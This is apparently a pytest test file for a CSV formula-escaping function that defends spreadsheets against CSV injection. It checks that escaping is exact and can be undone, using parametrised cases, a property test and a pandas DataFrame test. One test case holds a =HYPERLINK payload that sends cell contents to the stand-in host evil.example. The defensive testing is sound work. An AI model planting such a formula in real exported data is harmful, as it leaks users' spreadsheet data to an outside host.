"""Escaping CSV cells for spreadsheets (OWASP CSV injection), and undoing it exactly."""

from __future__ import annotations

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from slmops.tasks.data.dataset import (
    FORMULA_ESCAPE_COLUMN,
    FORMULA_ESCAPE_MARK,
    FORMULA_STARTS,
    escape_formula,
    escape_formulas,
    unescape_formula,
)


@pytest.mark.parametrize(
    ("text", "escaped"),
    [
        ('=HYPERLINK("https://evil.example?d="&A1)', '\'=HYPERLINK("https://evil.example?d="&A1)'),
        ("+44 20 7946 0958 call me", "'+44 20 7946 0958 call me"),
        ("-5 on my balance?", "'-5 on my balance?"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("'=already quoted", "''=already quoted"),  # one more quote, so unescaping is exact
        ("'twas a card", "'twas a card"),  # a quote before a harmless character: unchanged
        ("where is my card", "where is my card"),
        ("top-up failed", "top-up failed"),
        ("'", "'"),
        ("", ""),
    ],
)
def test_cells_a_spreadsheet_would_run_get_a_quote_and_come_back_exactly(text, escaped):
    assert escape_formula(text) == escaped
    assert unescape_formula(escaped) == text
    assert escaped[:1] not in FORMULA_STARTS  # nothing the spreadsheet would run


@given(st.text(alphabet=st.sampled_from(["'", "=", "-", "+", "@", "\t", "\r", "a", " "])))
def test_unescape_undoes_escape_for_any_text(text):
    assert unescape_formula(escape_formula(text)) == text
    assert escape_formula(text)[:1] not in FORMULA_STARTS


def test_a_frame_is_escaped_in_its_text_cells_only_and_marked_on_request():
    frame = pd.DataFrame({"text": ["=1+1", "fine", None], "confidence": [-0.5, 0.25, 1.0]})
    safe = escape_formulas(frame, mark=True)
    assert safe["text"].tolist()[:2] == ["'=1+1", "fine"] and safe["text"].isna().iloc[2]
    assert safe["confidence"].tolist() == [-0.5, 0.25, 1.0]  # numbers are no formulas
    assert safe[FORMULA_ESCAPE_COLUMN].tolist() == [FORMULA_ESCAPE_MARK] * 3
    assert frame["text"].tolist()[0] == "=1+1"  # the input is left alone
    assert FORMULA_ESCAPE_COLUMN not in escape_formulas(frame).columns
